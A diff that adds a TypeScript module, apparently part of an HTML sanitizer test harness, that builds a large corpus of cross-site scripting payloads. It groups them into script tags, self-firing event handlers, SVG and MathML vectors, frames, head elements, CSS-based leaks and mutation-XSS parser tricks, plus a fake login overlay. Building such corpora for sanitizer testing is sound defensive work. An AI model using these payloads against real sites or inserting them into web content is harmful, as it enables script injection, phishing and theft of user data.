@@ -1,0 +1,207 @@
+// Elements and attributes that run code, load something or take the page elsewhere.
+import type { Bait, Family } from './bait.ts';
+import { cssEscapes, dataAddress, hexReferences, mixedCase, paddedReferences } from './spelling.ts';
+
+type Member = (bait: Bait) => string;
+
+const scripts: readonly Member[] = [
+  ({ code }) => `<script>${code}</script>`,
+  ({ code }) => `<${mixedCase('script')}>${code}</${mixedCase('script')}>`,
+  ({ url }) => `<script src=${url}></script>`,
+  ({ url }) => `<script/src="${url}" defer></script >`,
+  ({ code }) => `<scr<script>ipt>${code}</scr</script>ipt>`,
+  ({ code }) => `<script\n type = 'text/javascript' >${code}</script\t\n>`,
+  ({ code }) => `<script type=module>${code}</script>`,
+  ({ url }) => `<script type=module>import '${url}'</script>`,
+  ({ url }) => `<script type=importmap>{"imports":{"yjs":"${url}"}}</script>`,
+  ({ code }) => `<script><!--\n${code}\n--></script>`,
+  ({ code }) => `</script><script>${code}</script>`,
+  ({ code }) => `</title></textarea></style></noscript><script>${code}</script>`,
+  ({ code }) => `'"><script>${code}</script>`,
+  ({ code }) => `--><script>${code}</script><!--`,
+  ({ code }) => `]]><script>${code}</script><![CDATA[`,
+  ({ code }) => `<svg><script>${code}</script></svg>`,
+  ({ code }) => `<svg><script xlink:href="data:,${code}"/></svg>`,
+  ({ code }) => `<math><script>${code}</script></math>`,
+  ({ code }) => `\u0000<\u0000script>${code}</script>`,
+  ({ code }) => `&lt;script&gt;${code}&lt;/script&gt;`,
+  ({ code }) => `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
+];
+
+/** Elements whose event comes by itself, without anybody's hand. */
+const selfRunning: readonly Member[] = [
+  ({ code }) => `<img src=x onerror=${code}>`,
+  ({ code }) => `<IMG SRC=x ${mixedCase('onerror')}="${code}">`,
+  ({ code }) => `<img/src=x/onerror=${code}//`,
+  ({ code }) => `<img src=x onerror\t=\n${code}>`,
+  ({ code }) => `<img src="x" alt="\`" onerror="${code}">`,
+  ({ code }) => `<img src=x onerror="${hexReferences(code)}">`,
+  ({ code }) => `<img src=x onerror="${paddedReferences(code)}">`,
+  ({ code }) => `<img alt="<img src=x onerror=${code}>" src="x"onerror="${code}">`,
+  ({ url }) => `<img src="${url}">`,
+  ({ url }) => `<img srcset="${url} 1x, ${url}/2 2x">`,
+  ({ url }) => `<img lowsrc="${url}" dynsrc="${url}" longdesc="${url}">`,
+  ({ code }) => `<image src=x onerror=${code}>`,
+  ({ url }) => `<picture><source srcset="${url}"><img></picture>`,
+  ({ code }) => `<video autoplay onloadstart=${code}><source onerror=${code} src=x></video>`,
+  ({ url }) => `<video poster="${url}"></video>`,
+  ({ code }) => `<audio src=x onerror=${code} autoplay></audio>`,
+  ({ url }) => `<video><track default src="${url}"></video>`,
+  ({ code }) => `<body onload=${code}>`,
+  ({ code }) => `<body onpageshow=${code} background="//x.invalid">`,
+  ({ code }) => `<details open ontoggle=${code}><summary>议程</summary></details>`,
+  ({ code }) => `<input autofocus onfocus=${code}>`,
+  ({ code }) => `<select autofocus onfocus=${code}><option>甲</select>`,
+  ({ code }) => `<textarea autofocus onfocus=${code}></textarea>`,
+  ({ code }) => `<button autofocus onfocus=${code}>通过</button>`,
+  ({ code }) => `<marquee onstart=${code}>会议</marquee>`,
+  ({ code }) => `<p onanimationstart=${code} class="live">动</p><style>.live{animation:x 1s}@keyframes x{}</style>`,
+  ({ code }) => `<div contenteditable onfocus=${code} autofocus tabindex=0>记</div>`,
+  ({ code }) => `<p onbeforematch=${code} hidden=until-found>隐</p>`,
+  ({ code }) => `<p oncontentvisibilityautostatechange=${code} class=auto>显</p>`,
+  ({ code }) => `<dialog open oncancel=${code} onclose=${code}>窗</dialog>`,
+  ({ code }) =>
+    `<button popovertarget=p${code.length}>开</button><p id=p${code.length} popover onbeforetoggle=${code}>浮</p>`,
+  ({ code }) => `<xss autofocus tabindex=1 onfocus=${code}>自造元素</xss>`,
+  ({ code }) => `<link rel=stylesheet href=x onerror=${code}>`,
+  ({ code }) => `<style onload=${code}></style>`,
+  ({ code }) => `<iframe onload=${code}></iframe>`,
+  ({ code }) => `<object data=x onerror=${code}></object>`,
+];
+
+/** Attributes that wait for a hand; a careless sink would keep them on. */
+const handled: readonly Member[] = [
+  'onclick',
+  'OnMouseOver',
+  'onpointerenter',
+  'onpointerrawupdate',
+  'onkeydown',
+  'oncopy',
+  'onpaste',
+  'onwheel',
+  'ontouchstart',
+  'oninput',
+  'onbeforeinput',
+  'oncompositionstart',
+  'onscroll',
+  'onselectstart',
+  'formaction',
+].map(
+  (name): Member =>
+    ({ code }) =>
+      `<b ${name}="${name === 'formaction' ? 'javascript:' : ''}${code}" title='审议"'>审议</b>`,
+);
+
+const graphics: readonly Member[] = [
+  ({ code }) => `<svg onload=${code}>`,
+  ({ code }) => `<svg/onload=${code}//`,
+  ({ code }) => `<svg><g onload=${code}></g></svg>`,
+  ({ code }) => `<svg><animate onbegin=${code} attributeName=x dur=1s></animate></svg>`,
+  ({ code }) => `<svg><set attributeName=onload to="${code}"></set></svg>`,
+  ({ code }) => `<svg><a><animate attributeName=href values="javascript:${code}"/><text y=20>点</text></a></svg>`,
+  ({ code }) => `<svg><a xlink:href="javascript:${code}"><text y=20>点</text></a></svg>`,
+  ({ url }) => `<svg><image href="${url}"/></svg>`,
+  ({ url }) => `<svg><use href="${url}#a"/></svg>`,
+  ({ code }) => `<svg><use href="${dataAddress('image/svg+xml', `<svg id=a onload=${code} />`)}#a"/></svg>`,
+  ({ url }) => `<svg><feImage href="${url}"/></svg>`,
+  ({ code }) => `<svg><foreignObject><body onload=${code}></body></foreignObject></svg>`,
+  ({ code }) => `<svg><desc><img src=x onerror=${code}></desc></svg>`,
+  ({ code }) => `<svg><style><img src=x onerror=${code}></style></svg>`,
+  ({ code }) => `<math><mtext><img src=x onerror=${code}></mtext></math>`,
+  ({ code }) => `<math href="javascript:${code}">公式</math>`,
+  ({ code }) => `<math><maction actiontype="statusline#${code}" xlink:href="javascript:${code}">公式</maction></math>`,
+  ({ code }) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${code}></annotation-xml></math>`,
+];
+
+const frames: readonly Member[] = [
+  ({ code }) => `<iframe src="javascript:${code}"></iframe>`,
+  ({ url }) => `<iframe src="${url}"></iframe>`,
+  ({ code }) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
+  ({ code }) => `<iframe srcdoc="&lt;img src=x onerror=top.${code}&gt;"></iframe>`,
+  ({ code }) => `<iframe src="${dataAddress('text/html', `<script>top.${code}</script>`)}"></iframe>`,
+  ({ url }) => `<frameset><frame src="${url}"></frameset>`,
+  ({ url }) => `<object data="${url}" type="text/html"></object>`,
+  ({ code }) => `<object data="javascript:${code}"></object>`,
+  ({ url }) => `<object><param name=movie value="${url}"></object>`,
+  ({ code }) => `<embed src="javascript:${code}">`,
+  ({ url }) => `<embed src="${url}" type="application/pdf">`,
+  ({ url }) => `<applet code="${url}"></applet>`,
+  ({ url }) => `<portal src="${url}"></portal>`,
+  ({ url }) => `<fencedframe src="${url}"></fencedframe>`,
+];
+
+const head: readonly Member[] = [
+  ({ url }) => `<base href="${url}/">`,
+  ({ code }) => `<base href="javascript:${code}//">`,
+  ({ url }) => `<meta http-equiv=refresh content="0;url=${url}">`,
+  ({ code }) => `<meta http-equiv="refresh" content="0;javascript:${code}">`,
+  ({ url }) => `<meta http-equiv=Content-Security-Policy content="report-uri ${url}">`,
+  () => `<meta charset="UTF-7">`,
+  () => `<meta http-equiv=set-cookie content="gongbi_session=geraubt">`,
+  ({ url }) => `<link rel=stylesheet href="${url}">`,
+  ({ url }) => `<link rel="preload" as="script" href="${url}">`,
+  ({ url }) => `<link rel=prefetch href="${url}"><link rel=dns-prefetch href="${url}">`,
+  ({ url }) => `<link rel=icon href="${url}">`,
+  ({ url }) => `<link rel=manifest href="${url}">`,
+  ({ url }) => `<html manifest="${url}"><body>`,
+  ({ url }) => `<form action="${url}"><input name=body value=纪要><button>提交</button></form>`,
+  ({ url }) => `<form id=f action="${url}"></form><button form=f autofocus>确认</button>`,
+  ({ url }) => `<a href="https:${url}" ping="${url}">纪要</a>`,
+];
+
+const styles: readonly Member[] = [
+  ({ url }) => `<style>@import '${url}';</style>`,
+  ({ url }) => `<style>*{background:url(${url})}</style>`,
+  ({ url }) => `<style>@font-face{font-family:s;src:url(${url})}*{font-family:s}</style>`,
+  ({ url }) => `<style>input[value^=a]{background:url(${url}/a)}</style>`,
+  ({ code }) => `<style>*{width:expression(${code})}</style>`,
+  ({ code }) => `<style>*{behavior:url(#default#time2);-moz-binding:url(data:text/xml,${code})}</style>`,
+  ({ url }) => `<p style="background-image:url('${url}')">底</p>`,
+  ({ url }) => `<p style="background:\\75\\72\\6c(${url})">底</p>`,
+  ({ code }) => `<p style="width:expression(${code})">宽</p>`,
+  ({ code }) => `<p style="wid/**/th:expr/**/ession(${code})">宽</p>`,
+  ({ code }) => `<p style="width:${cssEscapes('expression')}(${code})">宽</p>`,
+  ({ url }) => `<p style="list-style:url(${url});cursor:url(${url}),auto;border-image:url(${url}) 1">列</p>`,
+  ({ url }) => `<p style="content:image-set('${url}' 1x);mask:url(${url});filter:url(${url}#f)">影</p>`,
+  () => '<p style="position:fixed;inset:0;z-index:99999;background:#fff">会话已过期，请重新登录</p>',
+  ({ url }) => `<td background="${url}">格</td><table background="${url}"><tr><td>格</table>`,
+  ({ url }) => `</style><style>@import url(${url})</style><style>`,
+];
+
+/** What reads one way to a filter and another to a browser. */
+const mutations: readonly Member[] = [
+  ({ code }) => `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
+  ({ code }) => `<template><img src=x onerror=${code}></template>`,
+  ({ code }) => `<template shadowrootmode=open><img src=x onerror=${code}></template>`,
+  ({ code }) => `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
+  ({ code }) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
+  ({ code }) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${code}>`,
+  ({ code }) => `<table><td><svg><title><table><img src=x onerror=${code}></title></svg></td></table>`,
+  ({ code }) => `<p title="\`><img src=x onerror=${code}>\`">引</p>`,
+  ({ code }) => `<xmp><p title="</xmp><img src=x onerror=${code}>">`,
+  ({ code }) => `<listing>&lt;img src=x onerror=${code}&gt;</listing>`,
+  ({ code }) => `<plaintext><img src=x onerror=${code}>`,
+  ({ code }) => `<noembed><p title="</noembed><svg onload=${code}>">`,
+  ({ code }) => `<textarea><p title="</textarea><svg onload=${code}>">`,
+  ({ code }) => `<title><p title="</title><svg onload=${code}>">`,
+  ({ code }) => `<!--><img src=x onerror=${code}>-->`,
+  ({ code }) => `<!-- <!-- --> <img src=x onerror=${code}> --!>`,
+  ({ code }) => `<!--<img src="--!><img src=x onerror=${code}>//">`,
+  ({ code }) => `<!---><svg onload=${code}><!--->`,
+  ({ code }) => `<![CDATA[><img src=x onerror=${code}>]]>`,
+  ({ code }) => `<?xml version="1.0"?><?php ><img src=x onerror=${code}>?>`,
+  ({ code }) => `<!DOCTYPE x [<!ENTITY b "<img src=x onerror=${code}>">]><p>&b;</p>`,
+  ({ code }) => `<%<img src=x onerror=${code}>%>`,
+  ({ code }) => `<//<img src=x onerror=${code}>`,
+  ({ code }) => `<p/<svg/onload=${code}>`,
+  ({ code }) => `<<img src=x onerror=${code}>>`,
+  ({ code }) => `<a title='"><svg/onload=${code}>"'>重</a>`,
+  ({ code }) => `${'<b>'.repeat(300)}<img src=x onerror=${code}>`,
+  ({ code }) =>
+    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${code}>">`,
+];
+
+export const markup: Family = {
+  ...{ scripts, 'self-running events': selfRunning, 'handled events': handled, graphics, frames, head, styles },
+  mutations,
+};
